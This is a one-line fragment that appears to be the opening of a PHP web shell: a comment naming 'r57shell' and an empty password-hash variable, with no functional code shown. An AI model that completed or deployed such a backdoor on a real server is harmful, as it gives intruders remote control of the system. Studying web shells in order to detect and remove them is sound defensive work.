<?php /* r57shell */ $r57_pwd_hash = "";
